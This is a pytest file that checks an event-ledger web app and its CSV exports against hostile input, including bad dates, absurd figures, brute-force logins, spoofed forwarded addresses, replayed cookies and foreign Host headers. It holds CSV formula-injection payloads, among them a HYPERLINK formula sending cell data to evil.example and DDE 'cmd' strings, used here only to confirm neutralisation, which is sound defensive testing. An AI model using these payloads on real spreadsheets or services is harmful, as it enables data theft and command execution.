"""What a hostile user or reviewer tried on the web app and the exports (issue 12), each
refused: values that break a page, formula cells, parallel password guesses, forged
forwarded addresses, sessions that outlive a logout or a password change, a foreign Host;
and the checkpoint and the public key served so anyone can check the ledger later."""

from __future__ import annotations

import csv
import io
import json
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from typer.testing import CliRunner

from eventledger.cli import app as cli
from eventledger.runner.run import ingest_paths
from eventledger.settings import Settings
from eventledger.store import open_store
from eventledger.store import review as rv

REVIEWER, PASSWORD = "rita", "correct horse battery"  # made by tests/web/conftest.py


def _csrf(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "no CSRF token in the form"
    return m.group(1)


def login(c, name: str = REVIEWER, password: str = PASSWORD):  # type: ignore[no-untyped-def]
    token = _csrf(c.get("/login").text)
    return c.post("/login", data={"name": name, "password": password, "csrf": token, "next": "/"}, follow_redirects=False)


HTML = {"accept": "text/html"}


# ---- values that would break a page --------------------------------------------------------

@pytest.mark.parametrize("bad", ["2025-13-45", "2025-02-30", "2025-00", "0001-01-01", "9999-12-31"])
def test_an_impossible_reviewed_date_is_refused_with_the_form_kept(make_client, fresh_ledger, known, bad):
    c = make_client(fresh_ledger)
    login(c)
    ev = known["conflict_event"]
    token = _csrf(c.get(f"/events/{ev}").text)
    r = c.post(f"/events/{ev}/review", headers=HTML, data={"action": "correct", "date": bad, "mode": "raid-x",
                                                           "reason": "the day given in the story", "csrf": token})
    assert r.status_code == 422
    assert "date must be a real date" in r.text and 'role="alert"' in r.text
    assert f'value="{bad}"' in r.text and 'value="the day given in the story"' in r.text  # what was typed is kept
    assert '<option value="correct" selected>' in r.text
    with open_store(fresh_ledger) as s:
        assert s.db.execute("SELECT COUNT(*) FROM reviews").fetchone()[0] == 0
        assert s.verify() == []
    assert c.get("/").status_code == 200 and c.get(f"/events/{ev}").status_code == 200


@pytest.mark.parametrize("bad", ["inf", "-inf", "1e309", "nan", "NaN", "1e13", "-5"])
def test_an_infinite_or_absurd_figure_is_refused_with_the_form_kept(make_client, fresh_ledger, known, bad):
    c = make_client(fresh_ledger)
    login(c)
    ev = known["conflict_event"]
    rec = c.get(f"/api/events/{ev}").json()
    fig = next(s for g in rec["figures"] for v in g["values"] for s in v["sources"])["figure_id"]
    token = _csrf(c.get(f"/events/{ev}").text)
    r = c.post(f"/figures/{fig}/review", headers=HTML,
               data={"action": "correct", "value": bad, "reason": "recount", "csrf": token})
    assert r.status_code == 422, r.text[:300]
    assert 'role="alert"' in r.text and f'value="{bad}"' in r.text and 'value="recount"' in r.text
    with open_store(fresh_ledger) as s:
        assert s.db.execute("SELECT COUNT(*) FROM reviews").fetchone()[0] == 0
    assert c.get(f"/events/{ev}").status_code == 200 and c.get("/").status_code == 200
    # a program (no HTML wanted) gets the API's one error shape
    r = c.post(f"/figures/{fig}/review", data={"action": "correct", "value": bad, "reason": "recount", "csrf": token})
    assert r.status_code == 400 and set(r.json()) == {"error"}


def test_the_store_refuses_them_too(fresh_ledger, known):
    with open_store(fresh_ledger) as s:
        fig = s.db.execute("SELECT id FROM figures LIMIT 1").fetchone()[0]
        for v in (float("inf"), float("nan"), 1e309):
            with pytest.raises(rv.ReviewError, match="must be a number from 0"):
                rv.review_figure(s, fig, REVIEWER, "correct", "r", value=v)
        with pytest.raises(rv.ReviewError, match="real date"):
            rv.review_event(s, known["conflict_event"], REVIEWER, "correct", "r", {"date": "2025-13-45"})


# ---- CSV formula cells -----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C x'!A0",
            "@SUM(1+1)", "\tTAB", "\rCR"]


@pytest.fixture
def formula_ledger(tmp_path, profile):  # type: ignore[no-untyped-def]
    """A ledger whose outlets and texts begin with what spreadsheets run as formulas."""
    rows = [{"url": f"https://news.example/{i}", "outlet": f, "title": f,
             "text": f"{f} Immigration agents arrested {i + 3} people in Boise on March {i + 2}, 2025, police said.",
             "published": f"2025-03-{i + 2:02d}"} for i, f in enumerate(FORMULAS)]
    src = tmp_path / "formulas.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows))
    db = tmp_path / "f.db"
    with open_store(db, profile) as s:
        assert ingest_paths([str(src)], s, profile, Settings(), progress=False).failed == 0
    return db


def _number(cell: str) -> bool:
    """A longitude west of Greenwich is written as a number (-116.2), and stays one."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_cells_are_neutralised_in_export_and_the_api(formula_ledger, make_client, tmp_path):
    out = tmp_path / "e.csv"
    r = CliRunner().invoke(cli, ["export", "--format", "csv", "--db", str(formula_ledger), "-o", str(out)])
    assert r.exit_code == 0, r.output
    c = make_client(formula_ledger)
    api = c.get("/api/events.csv")
    assert api.status_code == 200
    for text in (out.read_text(encoding="utf-8"), api.text):
        cells = _cells(text)
        assert any("HYPERLINK" in cell for cell in cells), "the hostile outlet should be exported, as text"
        bad = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
        assert bad == [], bad
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)


# ---- logins ------------------------------------------------------------------------------------

def test_40_parallel_wrong_passwords_are_limited(make_client, fresh_ledger):
    c = make_client(fresh_ledger)
    token = _csrf(c.get("/login").text)

    def guess(i: int) -> int:
        return c.post("/login", data={"name": REVIEWER, "password": f"guess {i}", "csrf": token, "next": "/"},
                      follow_redirects=False).status_code

    with ThreadPoolExecutor(max_workers=40) as pool:
        codes = list(pool.map(guess, range(40)))
    assert codes.count(401) <= 5 and codes.count(429) >= 35, codes
    assert login(c).status_code == 429  # the right password, too, waits out the window


def test_forwarded_addresses_are_believed_only_from_a_trusted_proxy(make_client, fresh_ledger):
    c = make_client(fresh_ledger)  # no proxy configured: X-Forwarded-For is ignored
    token = _csrf(c.get("/login").text)
    codes = [c.post("/login", headers={"x-forwarded-for": f"203.0.113.{i}"}, follow_redirects=False,
                    data={"name": f"nobody{i}", "password": "wrong password", "csrf": token}).status_code
             for i in range(7)]
    assert codes[:5] == [401] * 5 and codes[5:] == [429, 429], codes  # one address, however it calls itself
    c = make_client(fresh_ledger, trusted_proxies=("testclient",))  # behind a named proxy: its clients apart
    token = _csrf(c.get("/login").text)
    codes = [c.post("/login", headers={"x-forwarded-for": f"198.51.100.{i}, testclient"}, follow_redirects=False,
                    data={"name": f"nobody{i}", "password": "wrong password", "csrf": token}).status_code
             for i in range(7)]
    assert codes == [401] * 7, codes


def test_a_saved_cookie_is_refused_after_logout(make_client, fresh_ledger, known):
    c = make_client(fresh_ledger)
    assert login(c).status_code == 303
    saved = dict(c.cookies)
    ev = known["conflict_event"]
    token = _csrf(c.get(f"/events/{ev}").text)
    assert c.post("/logout", data={"csrf": token}, follow_redirects=False).status_code == 303
    c.cookies.clear()
    c.cookies.update(saved)  # the cookie as it was saved before the logout
    r = c.post(f"/events/{ev}/review", data={"action": "confirm", "reason": "replayed", "csrf": token})
    assert r.status_code == 401, r.text
    with open_store(fresh_ledger) as s:
        assert s.db.execute("SELECT COUNT(*) FROM reviews").fetchone()[0] == 0
        assert s.verify() == []  # the logout is logged and sealed


def test_a_saved_cookie_is_refused_after_a_password_change(make_client, fresh_ledger, known):
    c = make_client(fresh_ledger)
    assert login(c).status_code == 303
    ev = known["conflict_event"]
    token = _csrf(c.get(f"/events/{ev}").text)
    with open_store(fresh_ledger) as s:
        rv.add_user(s, REVIEWER, "a brand new passphrase", replace=True)
    r = c.post(f"/events/{ev}/review", data={"action": "confirm", "reason": "after the change", "csrf": token})
    assert r.status_code == 401
    assert login(c, password="a brand new passphrase").status_code == 303


# ---- hosts and HTTPS ---------------------------------------------------------------------------

@pytest.mark.parametrize("host", ["evil.example", "attacker.test:8000", "127.0.0.1.nip.io", "localhost.evil.example"])
def test_a_foreign_host_is_refused(client, host):
    r = client.get("/api/overview", headers={"host": host})
    assert r.status_code == 400 and "unknown Host" in r.text
    assert r.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.1:8000", "localhost:8000", "[::1]:8000"])
def test_own_hosts_are_served(client, host):
    assert client.get("/api/overview", headers={"host": host}).status_code == 200


def test_an_allowed_host_is_served(make_client, shared_ledger):
    c = make_client(shared_ledger, allowed_hosts=("ledger.example.org",))
    assert c.get("/api/overview", headers={"host": "ledger.example.org"}).status_code == 200
    assert c.get("/api/overview", headers={"host": "other.example.org"}).status_code == 400


def test_cookies_are_secure_behind_a_trusted_https_proxy_only(make_client, fresh_ledger):
    c = make_client(fresh_ledger, trusted_proxies=("testclient",))
    assert "secure" in c.get("/login", headers={"x-forwarded-proto": "https"}).headers["set-cookie"].lower()
    c = make_client(fresh_ledger)
    assert "secure" not in c.get("/login", headers={"x-forwarded-proto": "https"}).headers["set-cookie"].lower()


# ---- anchors served ----------------------------------------------------------------------------

def test_the_checkpoint_and_the_public_key_are_served(make_client, fresh_ledger, tmp_path):
    c = make_client(fresh_ledger)
    assert c.get("/api/checkpoint").status_code == 404
    r = CliRunner().invoke(cli, ["checkpoint", "--db", str(fresh_ledger), "--key", str(tmp_path / "ledger.key")])
    assert r.exit_code == 0, r.output
    cp = c.get("/api/checkpoint").json()
    key = c.get("/api/public-key").text.strip()
    assert key.startswith("ed25519 ") and cp["public_key"] == key
    saved = tmp_path / "from-the-web.json"
    saved.write_text(json.dumps(cp))
    r = CliRunner().invoke(cli, ["verify", "--db", str(fresh_ledger), "--checkpoint", str(saved)])
    assert r.exit_code == 0 and "consistent with 1 checkpoint" in r.stdout, r.stdout
